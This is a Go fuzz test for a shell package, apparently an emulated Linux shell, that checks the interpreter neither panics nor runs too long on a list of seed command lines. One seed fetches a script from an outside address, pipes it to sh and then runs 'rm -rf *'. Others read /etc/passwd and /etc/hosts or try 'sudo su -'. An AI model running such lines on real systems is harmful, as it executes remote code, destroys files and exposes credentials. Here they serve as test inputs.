package shell

import (
	"context"
	"io"
	"strings"
	"testing"
	"time"
)

// FuzzRun looks for lines that make the shell panic or go on for ever.
func FuzzRun(f *testing.F) {
	for _, line := range []string{
		"cd /tmp; wget -q http://203.0.113.9/a.sh -O- | sh; rm -rf *", "for i in $(seq 3); do echo $((i*2)) >> /tmp/x; done; cat /tmp/x | sort -rn | head -n 1",
		"a=(1 2 3); echo ${a[@]:1} ${#a} ${a/1/2} ${a^^} ${b:=x}; [[ $b =~ ^x$ ]] && case $b in x|y) echo ok;; esac", "cat <<EOF | awk -F: '{print $1}'\na:b\nEOF",
		"f() { local x=$1; return $x; }; f 3 || echo $?", "printf '%5s|%-5d|%x\\n' a 1 255; echo -e '\\x41\\n'", "grep -E 'a|b' /etc/passwd | sed 's/a/b/g' | cut -d: -f1-3 | tr a-z A-Z | uniq -c",
		"ls -la / | wc -l; find / -name '*.conf' -type f 2>/dev/null; chmod +x x; ./x", "dd if=/etc/passwd bs=10 count=2 | base64 -d; head -c 5 /etc/hosts; tail -n +2 /etc/hosts", "sudo su -; su; passwd; exit 3",
	} {
		f.Add(line)
	}
	sys := SystemOf(host(f, "linux", "debian"))
	f.Fuzz(func(t *testing.T, line string) {
		ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
		defer cancel()
		sh := NewMachine(sys).New(Options{User: "root", Interactive: true})
		began := time.Now()
		sh.Run(ctx, line, strings.NewReader("input\n"), io.Discard, io.Discard)
		if took := time.Since(began); took > 5*time.Second {
			t.Errorf("it took %v", took)
		}
	})
}
